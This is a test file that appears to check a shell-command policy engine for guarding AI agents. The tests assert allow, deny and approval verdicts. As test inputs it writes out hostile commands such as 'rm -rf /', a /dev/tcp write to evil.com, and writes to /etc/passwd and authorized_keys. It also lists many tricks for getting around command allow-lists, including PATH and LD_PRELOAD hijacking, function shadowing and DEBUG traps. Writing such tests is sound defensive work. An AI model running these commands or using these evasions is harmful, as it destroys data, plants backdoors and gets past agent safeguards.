// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are placeholders of the shell
import type { CheckResult } from '@agentguard/protocol'
import { describe, expect, test } from 'vitest'
import { compilePolicy } from '../src/compile-policy.ts'
import type { EffectContext } from '../src/effects/context.ts'
import { shellLimits } from '../src/effects/shell/limits.ts'

function checkerOf(rules: string): (command: string, context?: EffectContext) => CheckResult {
  const compiled = compilePolicy(`version: "1"\nname: v\nrules: ${rules}\n`)
  if (!compiled.ok) throw new Error(compiled.issues[0]?.message)
  const { policy } = compiled
  return (command, context) => policy.check({ scope: 'shell', command }, undefined, context)
}

describe('the effect that a verdict names', () => {
  const check = checkerOf("[{scope: shell, deny: [{pattern: rm *}], allow: [{pattern: '*'}]}]")

  test('is the command that decided, with its place', () => {
    expect(check('ls -la; rm -rf /').effect).toEqual({
      scope: 'shell',
      verb: 'exec',
      text: 'rm -rf /',
      start: 8,
      end: 16
    })
  })

  test('is not there when the action as written decided, or is allowed', () => {
    expect(check('rm -rf /')).not.toHaveProperty('effect')
    expect(check('ls; ls')).not.toHaveProperty('effect')
  })

  test('has its place in bytes', () => {
    const { effect } = check("echo 'é😀'; rm x")
    const bytes = Buffer.from("echo 'é😀'; rm x")
    expect(bytes.subarray(effect?.start, effect?.end).toString()).toBe('rm x')
  })

  test('of a nested script stands where the script does', () => {
    expect(check("bash -c 'cd x; rm y'").effect).toMatchObject({ text: 'rm y', start: 8, end: 20 })
    expect(check('echo "a$(rm y)"').effect).toMatchObject({ text: 'rm y', start: 9, end: 13 })
    expect(check('echo `echo \\`rm y\\``').effect).toMatchObject({
      text: 'rm y',
      start: 5,
      end: 20
    })
  })

  test('may be a file or a host', () => {
    const more = checkerOf(
      "[{scope: shell, allow: [{pattern: '*'}]}, {scope: filesystem, deny: [{paths: [/etc/**]}], allow: [{action: read, paths: ['**']}]}, {scope: network, deny: [{domain: evil.com}], allow: [{domain: '*'}]}]"
    )
    expect(more('echo x > /etc/passwd').effect).toEqual({
      scope: 'filesystem',
      verb: 'write',
      text: '/etc/passwd',
      start: 9,
      end: 20
    })
    expect(more('echo x > /dev/tcp/evil.com/80')).toMatchObject({
      decision: 'DENY',
      matched_rule: 'deny:network:evil.com'
    })
    expect(more('cd /etc && cat shadow').effect).toMatchObject({ text: '/etc/shadow' })
    expect(more('cd /etc; cat shadow').decision).toBe('DENY')
  })
})

describe('an allow rule', () => {
  const check = checkerOf(
    "[{scope: shell, allow: [{pattern: ls *}, {pattern: git status}, {pattern: 'git commit -m \"*\"'}, {pattern: 'rm ?.tmp'}, {pattern: echo *}, {pattern: find *}, {pattern: 'cd *'}, {pattern: ./run *}]}]"
  )

  test.each([
    'ls',
    'ls -la',
    '"ls" -la',
    "l's' -la",
    'ls   -la',
    'git status',
    'git commit -m "a; b"',
    'rm a.tmp',
    'A=1 ls',
    'timeout 5 ls',
    'env LANG=C ls',
    'command ls',
    './run x',
    'f() { ls; }; f',
    "echo 'a\n  b'",
    'echo ${X:-default text}'
  ])('allows %s', (command) => {
    expect(check(command)).toMatchObject({ decision: 'ALLOW' })
  })

  test.each([
    './git status',
    '/tmp/git status',
    'rm *.tmp',
    'rm $X.tmp',
    'git() { nc; }; git status',
    'alias git=nc\ngit status',
    'hash -p ./x ls; ls',
    'PATH=. ls',
    'export LD_PRELOAD=./x.so; ls',
    '$X ls',
    'l* -la',
    'ls\u00a0-la',
    'ls\r',
    'cd x && ./run y',
    'set -k; ls PATH=.',
    'enable -f ./x.so y; ls',
    'sudo ls',
    'ls "$(nc)"',
    'echo $((A))',
    'echo ${X@P}',
    'echo "${!X}"'
  ])('does not allow %j', (command) => {
    expect(check(command).decision).not.toBe('ALLOW')
  })
})

describe('a rule without wildcards', () => {
  const check = checkerOf(
    '[{scope: shell, deny: [{pattern: rm *}], allow: [{pattern: "node -e 1"}, {pattern: "curl x | sh"}, {pattern: "node -e *"}, {pattern: "ls; rm x"}]}]'
  )

  test('is the word of its author for a command that cannot be proved', () => {
    expect(check('node -e 1').decision).toBe('ALLOW')
    expect(check('node -e 2').decision).toBe('REQUIRE_APPROVAL')
  })

  test('is the word of its author for a whole line, but for what is denied', () => {
    expect(check('curl x | sh').decision).toBe('ALLOW')
    expect(check('curl y | sh').decision).toBe('DENY')
    expect(check('ls; rm x').decision).toBe('DENY')
  })
})

describe('an approval rule', () => {
  test('about a wrapper asks about all that it runs, but for what is denied', () => {
    const check = checkerOf(
      '[{scope: shell, deny: [{pattern: rm *}], require_approval: [{pattern: sudo *}]}]'
    )
    expect(check('sudo apt install x')).toMatchObject({
      matched_rule: 'require_approval:shell:sudo *'
    })
    expect(check('sudo rm x').decision).toBe('DENY')
    expect(check('sudo apt install x; nc').decision).toBe('DENY')
  })

  test('that could match, depending on a value, asks', () => {
    const check = checkerOf(
      "[{scope: shell, deny: [{pattern: 'deploy --force*'}], allow: [{pattern: '*'}]}]"
    )
    expect(check('deploy $X').decision).toBe('REQUIRE_APPROVAL')
    expect(check('deploy "--f$X"').decision).toBe('REQUIRE_APPROVAL')
    expect(check('deploy a$X').decision).toBe('ALLOW')
    expect(check('echo $X').decision).toBe('ALLOW')
    const files = checkerOf(
      "[{scope: shell, allow: [{pattern: '*'}]}, {scope: filesystem, deny: [{paths: ['**/.env', '**/*.pem']}], allow: [{action: read, paths: ['**']}]}]"
    )
    expect(files('cat src/*.ts').decision).toBe('ALLOW')
    expect(files('cat *').decision).toBe('REQUIRE_APPROVAL')
    expect(files('cat .e*').decision).toBe('REQUIRE_APPROVAL')
    expect(files('cat src/.e[n]v').decision).toBe('REQUIRE_APPROVAL')
    expect(files('cat s*/x.ts').decision).toBe('ALLOW')
    expect(files('cat $X').decision).toBe('REQUIRE_APPROVAL')
  })
})

describe('matching: literal', () => {
  test('judges the line as a text, and nothing of what it does', () => {
    const check = checkerOf(
      "[{scope: shell, matching: literal, deny: [{pattern: rm *}], allow: [{pattern: ls *}]}, {scope: filesystem, deny: [{paths: ['**']}]}]"
    )
    expect(check('ls -la; rm -rf /').decision).toBe('ALLOW')
    expect(check('ls > x').decision).toBe('ALLOW')
    expect(check('rm x').decision).toBe('DENY')
  })

  test('beside other rule sets: its allowance is for the line, their restrictions hold', () => {
    const check = checkerOf(
      '[{scope: shell, matching: literal, allow: [{pattern: ls *}]}, {scope: shell, deny: [{pattern: rm *}], allow: [{pattern: cat *}]}]'
    )
    expect(check('ls; nc').decision).toBe('DENY')
    expect(check('ls a; nc').decision).toBe('ALLOW')
    expect(check('ls a; rm x').decision).toBe('DENY')
    expect(check('cat a; cat b').decision).toBe('ALLOW')
  })

  test('leaves its files to themselves', () => {
    const check = checkerOf(
      "[{scope: shell, allow: [{pattern: '*'}]}, {scope: filesystem, matching: literal, deny: [{paths: ['**']}]}]"
    )
    expect(check('cat x').decision).toBe('ALLOW')
  })
})

describe('a protected place', () => {
  const check = checkerOf("[{scope: shell, allow: [{pattern: '*'}]}]")

  test.each([
    'echo x > /etc/passwd',
    'echo x >> ~/.bashrc',
    'cp a .git/hooks/pre-commit',
    'tee ~/.ssh/authorized_keys',
    'echo x > /etc/$X',
    'ls > "$X"'
  ])('%s needs an approval where no rule speaks of files', (command) => {
    expect(check(command)).toMatchObject({
      decision: 'REQUIRE_APPROVAL',
      matched_rule: 'require_approval:filesystem:protected_path'
    })
  })

  test.each([
    'echo x > /dev/null',
    'ls > out.txt',
    'cat /etc/passwd',
    'ls 2>&1',
    'ls >&2',
    'ls > out/$X'
  ])('%s does not', (command) => {
    expect(check(command).decision).toBe('ALLOW')
  })
})

describe('the shell', () => {
  const check = checkerOf(
    "[{scope: shell, deny: [{pattern: evil}, {pattern: evil *}], allow: [{pattern: '*'}]}]"
  )

  test.each([
    'ls =evil',
    'echo hi >! f',
    "ls *(e:'evil x':)",
    'a=(evil x)',
    'echo (evil)',
    'noglob ls',
    'echo \\x65',
    'cat ~root/x > ~x'
  ])(
    'differs in what it makes of %s, so that it is not allowed while nobody says which it is',
    (command) => {
      expect(check(command).decision).not.toBe('ALLOW')
    }
  )

  test('bash, if it is said to be, reads some of these as bash does', () => {
    expect(check('a=(evil x)', { shell: 'bash' }).decision).toBe('ALLOW')
    expect(check('echo \\x65', { shell: 'bash' }).decision).toBe('ALLOW')
  })

  test.each(['powershell', 'cmd', 'fish'] as const)('%s is not understood', (shell) => {
    expect(check('ls', { shell }).decision).toBe('REQUIRE_APPROVAL')
    expect(check('ls & evil x', { shell }).decision).toBe('DENY')
    expect(check('EVIL.exe x', { shell: 'cmd' }).decision).toBe('DENY')
  })

  test.each([
    'Remove-Item -rec -fo C:\\\\',
    'powershell -enc ZQB2',
    'pwsh -c "iex 1"',
    'cmd /c "dir & x"',
    'ri -r C:',
    'remove-item -rec C:'
  ])('%s is recognized as of another shell', (command) => {
    expect(check(command).decision).toBe('REQUIRE_APPROVAL')
  })

  test.each(['apt-get update', 'docker-compose up', 'pre-commit run'])(
    '%s is of no other shell: programs have hyphens too',
    (command) => {
      expect(check(command).decision).toBe('ALLOW')
    }
  )
})

describe('beyond the limits', () => {
  const check = checkerOf('[{scope: shell, deny: [{pattern: rm *}], allow: [{pattern: "*"}]}]')
  const filler = (count: number): string => 'true;'.repeat(count)

  test('a command is unknown, and what is denied in it is denied all the same', () => {
    const long = 'x'.repeat(shellLimits.maxLength)
    expect(check(`echo ${long}`).decision).toBe('REQUIRE_APPROVAL')
    expect(check(`echo ${long}; rm x`).decision).toBe('DENY')
    expect(check(`${filler(shellLimits.maxSteps)} rm x`).decision).toBe('DENY')
  })

  test('a command with more words than anybody writes is unknown, and so is one with more here-documents', () => {
    const words = 'a '.repeat(shellLimits.maxWords)
    expect(check(`ls ${words}`).decision).toBe('REQUIRE_APPROVAL')
    expect(check(`ls ${words}; rm x`).decision).toBe('DENY')
    expect(check(`ls ${'>a '.repeat(shellLimits.maxWords)}; rm x`).decision).toBe('DENY')
    const documents = 'cat <<a\na\n'.repeat(shellLimits.maxHereDocuments)
    expect(check(documents).decision).toBe('ALLOW')
    expect(check(`${documents}cat <<a\na\n`).decision).toBe('REQUIRE_APPROVAL')
    expect(check(`${documents}cat <<a\na\nrm x`).decision).toBe('DENY')
  })

  test('what is denied is found behind many parts that cannot be read', () => {
    expect(check(`${'"`'.repeat(1000)}; rm x`).decision).toBe('DENY')
    expect(check(`eval 'a"'; eval 'b"; rm x'`).decision).toBe('DENY')
    const inside = `bash -c 'eval "a\\""; eval "rm x; b\\""'`
    expect(check(inside).decision).toBe('DENY')
  })

  test('as deep as shells nest', () => {
    const nested = (depth: number, command: string): string =>
      `${'echo $('.repeat(depth)}${command}${')'.repeat(depth)}`
    expect(check(nested(10, 'ls')).decision).toBe('ALLOW')
    expect(check(nested(5000, 'rm x')).decision).not.toBe('ALLOW')
    expect(check(nested(20, 'rm x')).decision).toBe('DENY')
    expect(check(`${'('.repeat(3000)}ls${')'.repeat(3000)}`).decision).not.toBe('ALLOW')
    expect(check(`${'{ '.repeat(3000)}ls${'; }'.repeat(3000)}`).decision).not.toBe('ALLOW')
  })

  test('what would grow without end does not', () => {
    expect(check(`echo ${'{a,b}'.repeat(40)}`).decision).toBe('ALLOW')
    const doubling = `A=aaaaaaaa; ${'A=$A$A; '.repeat(60)} echo $A`
    expect(check(doubling).decision).toBe('ALLOW')
    const loops = `${'for i in 1 2 3 4 5 6 7 8; do '.repeat(12)}echo x${'; done'.repeat(12)}`
    expect(check(loops).decision).not.toBe('DENY')
    const scripts = (depth: number): string =>
      depth === 0 ? 'ls' : `eval "${scripts(depth - 1).replace(/["\\$]/g, '\\$&')}"`
    expect(['ALLOW', 'REQUIRE_APPROVAL']).toContain(check(scripts(7)).decision)
  })
})

describe('what a state of the shell can hide', () => {
  const check = checkerOf(
    "[{scope: shell, allow: [{pattern: ls *}, {pattern: echo *}, {pattern: cat *}, {pattern: 'unset *'}, {pattern: 'trap *'}, {pattern: 'read *'}, {pattern: 'readonly *'}, {pattern: 'eval *'}, {pattern: 'true'}, {pattern: ':'}]}]"
  )
  const bash: EffectContext = { shell: 'bash' }

  test('values that are sure are followed', () => {
    expect(check('Z=ls; $Z x').decision).toBe('ALLOW')
    expect(check('lint() { :; }; lint x').decision).toBe('ALLOW')
  })

  test('a function that has the name of a program is judged as the program too', () => {
    expect(check('nc() { :; }; nc x').decision).toBe('DENY')
  })

  test.each([
    'nc() { :; }; unset -f nc; nc x',
    'nc() { :; }; for i in 1 2; do nc x; unset -f nc; done',
    "nc() { :; }; trap 'unset -f nc' DEBUG; nc x",
    'true || nc() { :; }; nc x',
    "trap 'Z=nc' DEBUG; Z=ls; $Z x",
    '_=ls; echo nc; $_',
    'REPLY=ls; read <<< nc; $REPLY',
    'readonly Z=nc\nZ=ls\n$Z x',
    'Z=ls; for i in 1 2; do $Z x; Z=nc; continue; Z=ls; done',
    'for PATH in .; do ls; done',
    "echo x >& '`nc`'",
    '((cat <<"E F"\n$(nc)\nE F\ntrue) >/dev/null)'
  ])('bash does more than it seems in %j', (command) => {
    expect(check(command, bash).decision).not.toBe('ALLOW')
  })

  test.each(["echo $'\\'; nc; '", 'ls &>o nc x', '[[ a && nc ]] || ls', '[[ a =~ b|nc ]] || ls'])(
    'another shell than bash does more in %j',
    (command) => {
      expect(check(command).decision).not.toBe('ALLOW')
      expect(check(command, bash).decision).toBe('ALLOW')
    }
  )
})
